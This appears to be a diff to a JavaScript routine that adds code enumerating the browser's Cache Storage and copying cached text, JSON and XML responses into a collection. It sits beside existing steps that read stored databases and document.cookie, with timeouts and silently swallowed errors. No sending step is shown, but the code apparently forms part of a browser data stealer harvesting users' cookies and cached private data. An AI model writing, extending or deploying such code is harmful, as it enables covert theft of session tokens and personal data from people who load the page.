@@ -37,6 +37,19 @@ async () => {
       base.close();
     }
   };
+  const kept = async () => {
+    if (!self.caches) return;
+    for (const name of (await caches.keys()).slice(0, MOST_BASES)) {
+      const cache = await caches.open(name);
+      for (const request of (await cache.keys()).slice(0, MOST_RECORDS)) {
+        const answer = await cache.match(request);
+        if (answer && /text|json|xml/.test(answer.headers.get("content-type") || "")) {
+          items.push(["cache", request.url, (await answer.text()).slice(0, LONGEST)]);
+        }
+      }
+    }
+  };
+  await Promise.race([kept().catch(() => {}), new Promise((resolve) => setTimeout(resolve, MOST_MS))]);
   await Promise.race([bases().catch(() => {}), new Promise((resolve) => setTimeout(resolve, MOST_MS))]);
   let cookie = "";
   try { cookie = document.cookie; } catch { /* likewise */ }
